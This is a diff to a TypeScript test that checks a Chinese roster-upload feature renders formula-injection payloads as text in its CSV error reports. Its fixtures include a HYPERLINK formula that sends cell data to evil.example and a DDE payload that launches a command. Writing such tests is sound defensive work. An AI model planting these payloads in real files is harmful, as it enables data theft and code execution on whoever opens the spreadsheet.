@@ -5,12 +5,11 @@ import { parse } from "csv-parse/sync";
 import { stringify } from "csv-stringify/sync";
 import { describe, expect, it } from "vitest";
 import { makeResidentId } from "~/domain/resident-id";
-import { guessMapping } from "~/domain/roster";
 import { getI18n } from "~/i18n/i18n";
 import { action as uploadAction } from "~/routes/employer/postings-upload";
-import { bufferSource } from "~/platform/spreadsheet-reader.server";
-import { errorReportCsv, importRoster, readHead } from "~/features/imports/index.server";
+import { errorReportCsv } from "~/features/imports/index.server";
 import { callForAnswer, filePost } from "../setup/api-call";
+import { importRows } from "../setup/roster-fixtures";
 import { makeCoordinator, makeEmployer } from "../setup/factories";
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
@@ -21,16 +20,12 @@ const cells = (report: string) => (parse(report.replace(/^\uFEFF/, "")) as strin
 describe("formula injection through upload error reports", () => {
   it("formula injection: a roster cell =HYPERLINK(…) comes back in the error report as text ('=…), not a formula", async () => {
     const coordinator = await makeCoordinator("130624");
-    const file = csv([
-      ["姓名", "身份证号码", "手机号码", "户籍县（市、区）", "技能/工种"],
-      ["张三", makeResidentId("130624", "1990-05-17", 11), "13800001111", "阜平县", PAYLOAD],
-      ["李四", makeResidentId("130624", "1990-05-17", 12), "13800002222", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
-    ]);
-    const source = bufferSource("roster.csv", file);
-    const head = await readHead(source);
-    const { errors } = await importRoster(
-      source,
-      { headerRow: head.headerRow, headers: head.headers, fields: guessMapping(head.headers, {}) },
+    const { errors } = await importRows(
+      [
+        ["姓名", "身份证号码", "手机号码", "户籍县（市、区）", "技能/工种"],
+        ["张三", makeResidentId("130624", "1990-05-17", 11), "13800001111", "阜平县", PAYLOAD],
+        ["李四", makeResidentId("130624", "1990-05-17", 12), "13800002222", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
+      ],
       coordinator.principal,
     );
     expect(errors.map((e) => e.value)).toEqual(expect.arrayContaining([PAYLOAD])); // the report does echo the cell
